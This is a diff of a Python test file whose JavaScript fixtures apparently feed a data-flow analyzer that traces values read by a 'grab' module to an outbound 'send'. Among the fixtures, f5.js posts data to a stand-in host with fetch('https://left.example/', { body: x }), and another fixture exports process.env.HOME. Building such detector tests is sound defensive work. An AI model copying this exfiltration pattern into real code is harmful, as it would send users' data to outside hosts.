@@ -262,7 +262,7 @@ def test_so_are_those_of_python() -> None:
         (
             'const { grab } = require("./grab");\nconst { send } = require("./send");\n'
             "exports.grab = async () => { const k = await grab(); return k; };\n"
-            "exports.send = async (x) => send(x);\n"
+            "exports.send = async (x) => { send(x); };\nexports.home = process.env.HOME;\n"
         ),
     ],
 )
@@ -358,7 +358,7 @@ def test_rings_of_functions_end() -> None:
     ring = {
         f"f{at}.js": (
             f'const {{ pass }} = require("./f{(at + 1) % 9}");\n'
-            "exports.pass = async (x) => { const k = await pass(x); return k; };"
+            "exports.pass = async (x) => { fetch(1); const k = await pass(x); return k; };"
         )
         for at in range(9)
     }
@@ -366,7 +366,7 @@ def test_rings_of_functions_end() -> None:
     ring["f5.js"] += '\nexports.send = (x) => fetch("https://left.example/", { body: x });'
     ring["f4.js"] = (
         'const { pass, send } = require("./f5");\n'
-        "exports.pass = async (x) => { send(x); const k = await pass(x); return k; };"
+        "exports.pass = async (x) => { fetch(1); send(x); const k = await pass(x); return k; };"
     )
     load = 'const { pass } = require("./f0");\nconst { grab } = require("./grab");\n'
     index = f"{load}exports.a = () => pass(grab());"
